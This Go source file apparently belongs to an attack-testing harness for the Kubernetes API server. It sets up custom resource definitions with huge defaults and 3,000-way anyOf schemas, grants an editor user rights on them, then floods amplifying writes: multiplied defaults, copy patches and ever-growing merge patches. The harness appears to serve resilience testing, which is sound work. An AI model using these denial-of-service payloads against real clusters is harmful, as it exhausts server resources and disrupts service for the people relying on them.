package main

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"time"

	"kelson.dev/apiserver/attacktest/bodies"
)

const (
	definitionsPath  = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions"
	growsPath        = "/apis/amplify.example.com/v1/namespaces/default/grows"
	alternativesPath = "/apis/amplify.example.com/v1/namespaces/default/alternatives"
	amplifiedPath    = "/apis/apps/v1/namespaces/default/deployments/amplified"
)

// amplified returns a definition of a kind in the group amplify.example.com.
func amplified(plural, kind, spec string) string {
	return fmt.Sprintf(`{"apiVersion":"apiextensions.k8s.io/v1","kind":"CustomResourceDefinition","metadata":{"name":"%s.amplify.example.com"},
		"spec":{"group":"amplify.example.com","scope":"Namespaced","names":{"plural":%[1]q,"kind":%q},"versions":[{"name":"v1","served":true,"storage":true,
		"schema":{"openAPIV3Schema":{"type":"object","properties":{"spec":%s}}}}]}}`, plural, kind, spec)
}

// amplifiers creates a kind with a default of 100 kB for the elements of a list, one whose elements
// have 3,000 alternatives, and a Deployment of 500 kB, which the attacker may write.
func amplifiers(ctx context.Context, t *target) error {
	var alternatives []string
	for i := range 3_000 {
		alternatives = append(alternatives, fmt.Sprintf(`{"minimum":%d}`, 1_000+i))
	}
	grows := fmt.Sprintf(`{"type":"object","x-kubernetes-preserve-unknown-fields":true,"properties":{"list":{"type":"array","items":{"type":"object",
		"properties":{"x":{"type":"string","default":%q}}}}}}`, strings.Repeat("x", 100<<10))
	numbers := fmt.Sprintf(`{"type":"object","properties":{"list":{"type":"array","items":{"type":"integer","anyOf":[%s]}}}}`, strings.Join(alternatives, ","))
	deployment := fmt.Sprintf(`{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"amplified","namespace":"default"},"spec":{"replicas":0,
		"selector":{"matchLabels":{"a":"b"}},"template":{"metadata":{"labels":{"a":"b"}},"spec":{"containers":[{"name":"c","image":"i","args":[%q]}]}}}}`, strings.Repeat("x", 500_000))
	if err := t.create(ctx, admin, [][2]string{
		{definitionsPath, amplified("grows", "Grow", grows)},
		{definitionsPath, amplified("alternatives", "Alternative", numbers)},
		{"/apis/apps/v1/namespaces/default/deployments", deployment},
	}); err != nil {
		return err
	}
	if err := t.allowEditor(ctx, "amplify.example.com"); err != nil {
		return err
	}
	return t.createSoon(ctx, growsPath, custom("Grow", "merged", `{}`))
}

// allowEditor gives the editor all rights on a group in its namespace.
func (t *target) allowEditor(ctx context.Context, group string) error {
	const rbac = "/apis/rbac.authorization.k8s.io/v1/namespaces/default/"
	return t.create(ctx, admin, [][2]string{
		{rbac + "roles", fmt.Sprintf(`{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"Role","metadata":{"name":%q},"rules":[{"apiGroups":[%[1]q],"resources":["*"],"verbs":["*"]}]}`, group)},
		{rbac + "rolebindings", fmt.Sprintf(`{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"RoleBinding","metadata":{"name":%q},
			"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"Role","name":%[1]q},"subjects":[{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":%[2]q}]}`, group, editor)},
	})
}

// createSoon creates an object of a new kind as the editor. kube-apiserver serves the kind, and
// observes new roles, a moment after they were created.
func (t *target) createSoon(ctx context.Context, path, body string) error {
	for deadline := time.Now().Add(time.Minute); ; sleep(ctx, probeEvery) {
		_, err := t.send(ctx, editor, http.MethodPost, path, bodies.JSON, body)
		if err == nil || ctx.Err() != nil || time.Now().After(deadline) {
			return err
		}
	}
}

func custom(kind, name, spec string) string {
	return fmt.Sprintf(`{"apiVersion":"amplify.example.com/v1","kind":%q,"metadata":{"name":%q},"spec":%s}`, kind, name,
		spec)
}

// amplifyingWrites sends at most 400 writes, 8 at a time, whose results or whose validation are far
// larger than the requests: defaults that multiply, also in server-side apply, alternatives, JSON
// patches that copy, and merge patches that add up.
func amplifyingWrites(ctx context.Context, t *target) error {
	empty := "[" + strings.Repeat("{},", 10_422) + "{}]"
	numbers := "[" + strings.Repeat("1,", 80_000) + "1]"
	argument := "/spec/template/spec/containers/0/args"
	var copies []string
	for range 5 {
		copies = append(copies, fmt.Sprintf(`{"op":"copy","from":"%s/0","path":"%[1]s/-"}`, argument))
	}
	large := strings.Repeat("x", 2_500_000)
	t.flood(ctx, 8, 400, func(i int) (string, string, string, string, string, []string) {
		switch i % 5 {
		case 0:
			return editor, http.MethodPost, growsPath, bodies.JSON,
				custom("Grow", fmt.Sprint("grow", i), `{"list":`+empty+`}`), nil
		case 1:
			return editor, http.MethodPost, alternativesPath, bodies.JSON,
				custom("Alternative", fmt.Sprint("numbers", i), `{"list":`+numbers+`}`), nil
		case 2:
			return editor, http.MethodPatch, amplifiedPath, "application/json-patch+json",
				"[" + strings.Join(copies, ",") + "]", nil
		case 3:
			return editor, http.MethodPatch, growsPath + "/applied?fieldManager=a&force=true",
				"application/apply-patch+yaml", custom("Grow", "applied", `{"list":`+empty+`}`), nil
		}
		return editor, http.MethodPatch, growsPath + "/merged", "application/merge-patch+json",
			fmt.Sprintf(`{"spec":{"member%d":%q}}`, i, large), nil
	})
	return nil
}
